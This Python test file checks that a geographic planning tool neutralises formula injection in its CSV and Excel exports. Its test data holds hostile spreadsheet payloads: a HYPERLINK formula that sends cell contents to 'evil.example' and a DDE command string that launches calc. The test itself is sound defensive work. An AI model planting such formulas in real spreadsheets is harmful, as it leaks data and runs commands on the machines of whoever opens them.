"""No formula in any export: text a planner typed (names, descriptions, addresses) that starts
with = + - @, tab or CR is written as text in every CSV and Excel file, read back to check."""

from __future__ import annotations

import csv
import dataclasses
import io

import openpyxl
import pandas as pd
import pytest

from geo import coverage, export, facilities, geocoding, optimize, population, scenarios, standards
from geo._safe import FORMULA_STARTS, html_text, spreadsheet_frame, spreadsheet_text

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-3+4", "@SUM(1)", "\t=1", "\r=2"]


def live_formulas_in_csv(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def live_formulas_in_xlsx(data: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{ws.title}!{cell.coordinate}={cell.value!r}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
    ]


def test_the_helpers_by_hand():
    assert spreadsheet_text("=1+1") == "'=1+1"
    assert spreadsheet_text("七宝") == "七宝" and spreadsheet_text(-2.5) == -2.5
    assert spreadsheet_text("\r=2") == "'\n=2" and spreadsheet_text("a\r\nb") == "a\nb"
    frame = spreadsheet_frame(pd.DataFrame({"name": ["@x", "ok"], "n": [-1, 2]}))
    assert frame["name"].tolist() == ["'@x", "ok"] and frame["n"].tolist() == [-1, 2]
    assert html_text("<b>`${x}`</b>") == "&lt;b&gt;&#96;&#36;{x}&#96;&lt;/b&gt;"


@pytest.fixture(scope="module")
def hostile_result(pack):
    table = facilities.facilities_from_pack()
    gdf = table.gdf[table.gdf["type"] == "hospital"].head(len(HOSTILE)).copy()
    gdf["name"] = HOSTILE
    std = standards.make_standard("straight_line", facility_types=("hospital",))
    hostile = dataclasses.replace(table, gdf=gdf, source="=cmd|' /C calc'!A0, -2+3")
    return coverage.compute_coverage(std, hostile, population.population_from_addresses())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_coverage_downloads_hold_no_formula(hostile_result, fmt):
    _name, data = export.export_bytes(
        [hostile_result], fmt, stem="=evil", subdistricts=coverage.partition_subdistricts()
    )
    found = live_formulas_in_csv(data) if fmt == "csv" else live_formulas_in_xlsx(data)
    assert found == []


def test_comparison_and_suggestion_files_hold_no_formula(tmp_path, pack):
    sc = scenarios.Scenario(
        name="hostile",
        description="=HYPERLINK(1)",
        base="baseline",
        edits=(
            scenarios.Edit(
                "add",
                (("name", "=HYPERLINK(2)"), ("type", "station"), ("lon", 121.38), ("lat", 31.12)),
            ),
        ),
    )
    (tmp_path / "baseline.toml").write_text('name = "baseline"\nfacilities = "pack"\n', "utf-8")
    run_a = scenarios.run_scenario("baseline", folder=tmp_path)
    run_b = scenarios.run_scenario(scenarios.resolve(sc, folder=tmp_path), folder=tmp_path)
    cmp = scenarios.compare(run_a, run_b)
    for path in export.export_comparison(cmp, tmp_path / "cmp", stem="cmp"):
        if path.suffix == ".csv":
            assert live_formulas_in_csv(path.read_bytes()) == [], path.name
        elif path.suffix == ".xlsx":
            assert live_formulas_in_xlsx(path.read_bytes()) == [], path.name
    frame = pd.DataFrame({"address": HOSTILE, "subdistrict": ["七宝镇"] * len(HOSTILE)})
    geocoded = geocoding.geocode_table(frame)
    assert live_formulas_in_csv(geocoded.csv_bytes()) == []
    out = geocoded.write(tmp_path / "geocoded.xlsx")
    assert live_formulas_in_xlsx(out.read_bytes()) == []
    assert optimize.suggestion_to_files is not None
